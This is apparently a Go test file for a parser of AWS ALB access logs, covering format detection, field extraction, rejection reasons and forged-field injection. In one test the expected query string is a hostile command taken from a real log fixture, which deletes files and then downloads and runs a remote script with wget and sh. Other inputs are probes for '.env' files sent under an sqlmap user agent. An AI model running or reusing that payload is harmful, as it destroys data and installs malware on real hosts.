package logformat

import (
	"strings"
	"testing"
)

func TestALBElastic(t *testing.T) {
	data := repoFile(t, "elastic-integrations/packages/aws/data_stream/elb_logs/_dev/test/pipeline/test-alb.log")
	recs, r := readString(t, string(data), Options{})
	st := r.Stats()
	// 4 NLB TLS lines and 3 connection-log lines are rejected as not-http
	if r.Format() != ALB || len(recs) != 3 || st.Reasons[ReasonNotHTTP] != 7 || st.Lines != 10 {
		t.Fatalf("format %q, %d records, stats %+v", r.Format(), len(recs), st)
	}
	space := recs[1]
	if space.Method != "GET" || space.Path != "/shell" || space.Host != "127.0.0.1" || space.Proto != "HTTP/1.1" ||
		space.RawQuery != "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" || space.UA != "Hello, world" ||
		space.Status != 301 || space.Client.String() != "67.43.156.20" {
		t.Errorf("SpaceInUri row %+v", space)
	}
	bad := recs[2]
	if !bad.Malformed || bad.Method != "" || !strings.Contains(bad.Path, "internal-service-alb.example.com") || bad.Status != 200 {
		t.Errorf("malformed row %+v", bad)
	}
}

func TestALBLines(t *testing.T) {
	base := `https 2023-04-26T12:23:00.186641Z app/x/y CLIENT 10.0.0.1:80 0.086 0.048 0.037 STATUS 200 0 57 "REQ" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:tg "Root=1-abc" "www.example.com" "arn:cert" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-"`
	line := func(client, status, req string) string {
		return strings.NewReplacer("CLIENT", client, "STATUS", status, "REQ", req).Replace(base)
	}
	tests := []struct {
		name, line         string
		client, path, host string
		status             int
		reason             string
	}{
		{name: "ipv6 client", line: line("2001:db8::1:44740", "200", "GET https://h.example:443/a?b=1 HTTP/1.1"), client: "2001:db8::1", path: "/a", host: "h.example", status: 200},
		{name: "ipv6 host", line: line("1.2.3.4:1", "404", "GET http://[2001:db8::5]:80/x HTTP/1.1"), client: "1.2.3.4", path: "/x", host: "2001:db8::5", status: 404},
		{name: "dash status", line: line("1.2.3.4:1", "-", "GET https://h:443/ HTTP/1.1"), client: "1.2.3.4", path: "/", host: "h", status: 0},
		{name: "extra fields", line: line("1.2.3.4:1", "200", "GET https://h:443/ HTTP/1.1") + ` TID_1 "m" "-" "X" new1 new2`, client: "1.2.3.4", path: "/", host: "h", status: 200},
		{name: "backslash ends UA", line: strings.Replace(line("1.2.3.4:1", "200", "GET https://h:443/ HTTP/1.1"), `"curl/7.46.0"`, `"curl\"`, 1), client: "1.2.3.4", path: "/", host: "h", status: 200},
		{name: "no port", line: line("1.2.3.4", "200", "GET https://h:443/ HTTP/1.1"), reason: ReasonBadClientIP},
		{name: "short", line: strings.Join(strings.Fields(line("1.2.3.4:1", "200", "GET"))[:12], " "), reason: ReasonFieldCount},
		{name: "bad status", line: line("1.2.3.4:1", "2000", "GET https://h:443/ HTTP/1.1"), reason: ReasonBadStatus},
	}
	for _, tt := range tests {
		recs, r := readString(t, tt.line+"\n", Options{Hint: ALB})
		if tt.reason != "" {
			if len(recs) != 0 || r.Stats().Reasons[tt.reason] != 1 {
				t.Errorf("%s: %d records, reasons %v, want %s", tt.name, len(recs), r.Stats().Reasons, tt.reason)
			}
			continue
		}
		if len(recs) != 1 {
			t.Errorf("%s: %d records, %+v", tt.name, len(recs), r.Stats())
			continue
		}
		got := recs[0]
		if got.Client.String() != tt.client || got.Path != tt.path || got.Host != tt.host || got.Status != tt.status || got.RequestID != "Root=1-abc" {
			t.Errorf("%s: %+v", tt.name, got)
		}
	}
}

func TestMixedFormats(t *testing.T) {
	alb := strings.Split(string(repoFile(t, "crowdsec-hub/tests/aws-alb-logs/aws-alb-logs.log")), "\n")
	clf := strings.Split(string(repoFile(t, "crowdsec-hub/tests/http-wordpress-scan/http-wordpress-scan.log")), "\n")
	in := strings.Join([]string{alb[0], alb[1], alb[2], clf[0], alb[3], clf[1], "garbage line"}, "\n")
	recs, r := readString(t, in, Options{})
	st := r.Stats()
	if r.Format() != ALB || len(recs) != 4 || st.Reasons[ReasonFormatMismatch] != 2 || st.Reasons[ReasonUnrecognized] != 1 {
		t.Errorf("format %q, %d records, %+v", r.Format(), len(recs), st.Reasons)
	}
}

// ALB does not escape quotes, but every field that decides who and what a
// line is (client, time, status, sizes) comes before the first field the
// client writes: a request or user agent shaped like more fields cannot
// move them.
func TestALBClientBeforeClientFields(t *testing.T) {
	const head = `https 2023-04-26T12:23:00.186641Z app/x/y 203.0.113.9:4711 10.0.0.1:80 0.086 0.048 0.037 404 404 0 57 `
	const tail = ` ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:tg "Root=1-abc" "www.example.com" "arn:cert" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "404" "-" "-"`
	fake := `" https 2023-01-01T00:00:00.000000Z app/x/y 8.8.8.8:1 10.0.0.1:80 0 0 0 200 200 0 1 "`
	tests := []struct{ name, req, ua string }{
		{"user agent", `"GET https://h:443/.env HTTP/1.1"`, `"sqlmap` + fake + `x"`},
		{"request", `"GET https://h:443/.env` + fake + ` HTTP/1.1"`, `"sqlmap"`},
		{"both", `"GET https://h:443/.env` + fake + ` HTTP/1.1"`, `"sqlmap` + fake + `"`},
	}
	for _, tt := range tests {
		recs, r := readString(t, head+tt.req+" "+tt.ua+tail+"\n", Options{})
		if r.Format() != ALB || len(recs) != 1 {
			t.Fatalf("%s: format %q, %d records, %+v", tt.name, r.Format(), len(recs), r.Stats())
		}
		got := recs[0]
		if got.Client.String() != "203.0.113.9" || got.Status != 404 || got.Bytes != 57 || got.Time.Year() != 2023 || got.Time.Month() != 4 {
			t.Errorf("%s: %+v", tt.name, got)
		}
	}
}
